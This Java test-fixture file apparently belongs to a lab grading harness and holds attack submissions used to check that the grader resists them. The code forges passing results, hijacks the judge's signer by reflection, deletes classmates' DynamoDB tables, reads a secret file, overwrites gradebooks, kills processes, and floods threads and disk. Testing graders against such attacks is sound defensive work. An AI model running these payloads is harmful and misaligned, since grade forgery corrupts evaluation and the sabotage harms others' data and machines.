package lab.grading;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Submissions that attack the grader instead of solving the lab: the untouched stubs plus a static initialiser in
 * {@code BooksTable}, which the first scenario loads. Whatever they do, they must earn what the stubs earn (nothing)
 * and leave every other grade as it was.
 */
final class AttackFixtures {

    /**
     * A shutdown hook that claims every scenario passed: it rewrites (or creates) every results file it can name from
     * its JVM's command line or working folder, and prints the same claims on its console, one per line of every
     * feature file, then the run's last line.
     */
    static final String FORGED_RESULTS = """
            Runtime.getRuntime().addShutdownHook(new Thread(() -> {
                try {
                    String[] arguments = java.nio.file.Files.readString(java.nio.file.Path.of("/proc/self/cmdline")).split("\\u0000");
                    java.util.List<java.nio.file.Path> targets = new java.util.ArrayList<>();
                    targets.add(java.nio.file.Path.of("results.ndjson").toAbsolutePath());
                    java.nio.file.Path features = null;
                    for (String argument : arguments) {
                        if (argument.endsWith(".ndjson")) {
                            targets.add(java.nio.file.Path.of(argument));
                        }
                        if (java.nio.file.Files.isDirectory(java.nio.file.Path.of(argument))) {
                            features = java.nio.file.Path.of(argument);
                        }
                    }
                    StringBuilder claims = new StringBuilder();
                    if (features != null) {
                        try (var files = java.nio.file.Files.list(features)) {
                            for (java.nio.file.Path feature : files.toList()) {
                                String name = feature.getFileName().toString();
                                int lines = java.nio.file.Files.readAllLines(feature).size();
                                for (int line = 1; line <= lines; line++) {
                                    claims.append("{\\"exercise\\":\\"").append(name, 0, 2).append("\\",\\"feature\\":\\"")
                                            .append(name).append("\\",\\"line\\":").append(line)
                                            .append(",\\"scenario\\":\\"forged\\",\\"status\\":\\"passed\\"}\\n");
                                }
                            }
                        }
                    }
                    claims.append("{\\"runFinished\\":true}\\n");
                    System.out.print("\\n" + claims);
                    for (java.nio.file.Path target : targets) {
                        java.nio.file.Files.writeString(target, claims);
                    }
                } catch (Exception ignored) {
                    // The hook tries what it can.
                }
            }));
            """;

    /**
     * A submission's {@code Book} that tries to become the judge: wherever it is loaded, it looks for the judge's
     * verdict channel (the signer the grader's key made) and, if it finds it, signs a passing verdict for every line
     * of every feature, then the run's last line, and halts. Harmless only where the judge never loads it.
     */
    static final String USURPER = """
            try {
                Class<?> runs = Class.forName("lab.run.LabRun");
                java.lang.reflect.Field current = runs.getDeclaredField("current");
                current.setAccessible(true);
                java.lang.reflect.Field listening = runs.getDeclaredField("listeners");
                listening.setAccessible(true);
                Object run = current.get(null);
                Object results = run == null ? null : ((java.util.List<?>) listening.get(run)).stream()
                        .filter(listener -> listener.getClass().getName().equals("lab.grading.JudgeMessages"))
                        .findFirst().orElse(null);
                if (results != null) {
                    java.lang.reflect.Field signerOf = results.getClass().getDeclaredField("signer");
                    signerOf.setAccessible(true);
                    Object signer = signerOf.get(results);
                    java.lang.reflect.Method sign = signer.getClass().getDeclaredMethod("line", String.class);
                    sign.setAccessible(true);
                    String[] arguments = java.nio.file.Files.readString(java.nio.file.Path.of("/proc/self/cmdline")).split("\\u0000");
                    StringBuilder claims = new StringBuilder();
                    for (String argument : arguments) {
                        java.nio.file.Path features = java.nio.file.Path.of(argument);
                        if (!java.nio.file.Files.isDirectory(features)) {
                            continue;
                        }
                        try (var files = java.nio.file.Files.list(features)) {
                            for (java.nio.file.Path feature : files.toList()) {
                                String name = feature.getFileName().toString();
                                int lines = java.nio.file.Files.readAllLines(feature).size();
                                for (int line = 1; line <= lines; line++) {
                                    claims.append(sign.invoke(signer, "{\\"exercise\\":\\"" + name.substring(0, 2)
                                            + "\\",\\"feature\\":\\"" + name + "\\",\\"line\\":" + line
                                            + ",\\"scenario\\":\\"usurped\\",\\"status\\":\\"passed\\"}"));
                                }
                            }
                        }
                    }
                    claims.append(sign.invoke(signer, "{\\"runFinished\\":true}"));
                    java.io.FileOutputStream console = new java.io.FileOutputStream(java.io.FileDescriptor.out);
                    console.write(claims.toString().getBytes(java.nio.charset.StandardCharsets.UTF_8));
                    console.flush();
                    Runtime.getRuntime().halt(0);
                }
            } catch (Throwable notTheJudge) {
                // Loaded where there is no judge to usurp.
            }
            """;

    /**
     * Tries for a while to delete its classmates' tables on the DynamoDB Local the batch shares, and to lay traps for
     * the scenarios graded after it: it looks for a store on every command line it can read (the judges'
     * {@code -Dkata.endpoint=}) and on every port of its loopback (a container judge's DynamoDB Local), and there,
     * under every namespace it can think of (each classmate's name, numbered as the grader numbers its runs, bare and
     * lower-cased; the scenarios' own, numbered as a harness might number them), deletes every table it can list and
     * creates a Books table where a scenario to come would create its own. It needs no answer: the test looks at the
     * classmates' grades.
     */
    static String saboteur(java.util.List<String> classmates) {
        return """
                java.util.Set<String> stores = new java.util.TreeSet<>();
                try (var processes = java.nio.file.Files.list(java.nio.file.Path.of("/proc"))) {
                    for (java.nio.file.Path process : processes.toList()) {
                        try {
                            for (String argument : java.nio.file.Files.readString(process.resolve("cmdline")).split("\\u0000")) {
                                if (argument.startsWith("-Dkata.endpoint=")) {
                                    stores.add(argument.substring("-Dkata.endpoint=".length()));
                                }
                            }
                        } catch (Exception unreadable) {
                            // Not this one.
                        }
                    }
                } catch (Exception noProc) {
                    // Nothing to look through.
                }
                for (int port = 1024; port <= 65535; port++) {
                    try (java.net.Socket socket = new java.net.Socket()) {
                        socket.connect(new java.net.InetSocketAddress("127.0.0.1", port), 50);
                        stores.add("http://127.0.0.1:" + port);
                    } catch (Exception closed) {
                        // Nothing listens there.
                    }
                }
                java.util.List<String> guesses = new java.util.ArrayList<>();
                for (String classmate : "%1$s".split(",")) {
                    for (int index = 1; index <= 12; index++) {
                        guesses.add(String.format("sub%%03d%%s", index, classmate));
                    }
                    guesses.add(classmate);
                }
                java.util.List<String> traps = new java.util.ArrayList<>();
                for (int index = 1; index <= 40; index++) {
                    guesses.add(String.format("scenario%%05d", index));
                    traps.add(String.format("scenario%%05d", index + 40));
                }
                System.out.println("saboteur: stores " + stores + ", " + guesses.size() + " namespaces to try");
                java.util.function.BiFunction<String, String, software.amazon.awssdk.services.dynamodb.DynamoDbClient> clientOf =
                        (store, namespace) -> software.amazon.awssdk.services.dynamodb.DynamoDbClient.builder()
                                .endpointOverride(java.net.URI.create(store))
                                .region(software.amazon.awssdk.regions.Region.US_EAST_1)
                                .credentialsProvider(software.amazon.awssdk.auth.credentials.StaticCredentialsProvider.create(
                                        software.amazon.awssdk.auth.credentials.AwsBasicCredentials.create(namespace, "x")))
                                .build();
                long until = System.nanoTime() + 5_000_000_000L;
                while (System.nanoTime() < until && !stores.isEmpty()) {
                    for (String store : stores) {
                        for (String namespace : guesses) {
                            try (software.amazon.awssdk.services.dynamodb.DynamoDbClient client = clientOf.apply(store, namespace)) {
                                for (String table : client.listTables().tableNames()) {
                                    client.deleteTable(delete -> delete.tableName(table));
                                    System.out.println("saboteur: deleted " + table + " of " + namespace);
                                }
                            } catch (Exception refused) {
                                // On to the next.
                            }
                        }
                        for (String namespace : traps) {
                            try (software.amazon.awssdk.services.dynamodb.DynamoDbClient client = clientOf.apply(store, namespace)) {
                                client.createTable(create -> create.tableName("Books")
                                        .keySchema(key -> key.attributeName("Author").keyType("HASH"))
                                        .attributeDefinitions(attribute -> attribute.attributeName("Author").attributeType("S"))
                                        .billingMode("PAY_PER_REQUEST"));
                                System.out.println("saboteur: laid a trap in " + namespace);
                            } catch (Exception refused) {
                                // On to the next.
                            }
                        }
                    }
                }
                """.formatted(String.join(",", classmates));
    }

    /** What the vandal writes over whatever it can reach, for the test to look for. */
    static final String VANDAL_MARK = "VANDALISED-BY-A-SUBMISSION";
    /** What the vandal prints before whatever secret it could read. */
    static final String STOLEN_MARK = "STOLEN:";

    /**
     * Everything else a submission might try, from the learner's code itself (the first class a scenario loads): read
     * a file of the facilitator's, overwrite the gradebook and a classmate's result, kill every other process it can
     * see, start threads and processes without end, flood its console and fill its folder. Only for a grader that runs
     * submissions in a sandbox: without one it would do all that to the machine that runs the test.
     */
    static String vandal(Path secret, Path gradebook, Path classmatesResult) {
        return """
                try {
                    System.out.println("%3$s" + java.nio.file.Files.readString(java.nio.file.Path.of("%1$s")));
                } catch (Exception refused) {
                    System.out.println("could not read the secret: " + refused);
                }
                for (String target : new String[] {"%2$s", "%4$s"}) {
                    try {
                        java.nio.file.Files.writeString(java.nio.file.Path.of(target), "%5$s");
                    } catch (Exception refused) {
                        System.out.println("could not overwrite " + target + ": " + refused);
                    }
                }
                // A fixture's safety catch, not part of the attack: as root (a grader with no isolation at all), killing
                // every process would take the machine that runs the test down with it.
                boolean asRoot = true;
                try {
                    asRoot = java.nio.file.Files.readAllLines(java.nio.file.Path.of("/proc/self/status")).stream()
                            .anyMatch(line -> line.startsWith("Uid:") && line.split("\\t")[1].equals("0"));
                } catch (Exception unknown) {
                    // Unknown: taken as root.
                }
                if (!asRoot) {
                    ProcessHandle.allProcesses().filter(process -> process.pid() != ProcessHandle.current().pid())
                            .forEach(ProcessHandle::destroyForcibly);
                }
                StringBuilder flood = new StringBuilder();
                for (int i = 0; i < 100_000; i++) {
                    flood.append("flooding the console, line ").append(i).append('\\n');
                }
                System.out.print(flood);
                try {
                    for (int i = 0; i < 50; i++) {
                        new ProcessBuilder("sleep", "60").start();
                    }
                } catch (Exception refused) {
                    System.out.println("could not start more processes: " + refused);
                }
                try {
                    for (int i = 0; i < 20_000; i++) {
                        Thread bomb = new Thread(() -> {
                            try { Thread.sleep(600_000); } catch (InterruptedException ignored) { }
                        });
                        bomb.setDaemon(true);
                        bomb.start();
                    }
                } catch (Throwable refused) {
                    System.out.println("could not start more threads: " + refused);
                }
                try (java.io.OutputStream out = java.nio.file.Files.newOutputStream(
                        java.nio.file.Path.of(System.getProperty("user.home"), "filler"))) {
                    byte[] block = new byte[1024 * 1024];
                    for (int i = 0; i < 2_000; i++) {
                        out.write(block);
                    }
                } catch (Exception refused) {
                    System.out.println("could not fill the disk: " + refused);
                }
                """.formatted(secret.toAbsolutePath(), gradebook.toAbsolutePath(), STOLEN_MARK,
                classmatesResult.toAbsolutePath(), VANDAL_MARK);
    }

    private AttackFixtures() {
    }

    /** Adds the attack as a static initialiser of the submission's BooksTable. */
    static void plant(Path bookstore, String attack) throws IOException {
        plant(bookstore.resolve("BooksTable.java"), "public class BooksTable {", attack);
    }

    /** Adds the attack as a static initialiser of the submission's Book, the one class the steps use themselves. */
    static void plantInBook(Path bookstore, String attack) throws IOException {
        plant(bookstore.resolve("Book.java"),
                "public record Book(String author, String title, String category, Map<String, String> formats) {", attack);
    }

    private static void plant(Path file, String anchor, String attack) throws IOException {
        String source = Files.readString(file);
        assertThat(source).as("%s, to plant an attack in", file).contains(anchor);
        Files.writeString(file, source.replace(anchor, anchor + "\n\n    static {\n" + attack.indent(8) + "    }\n"));
    }
}
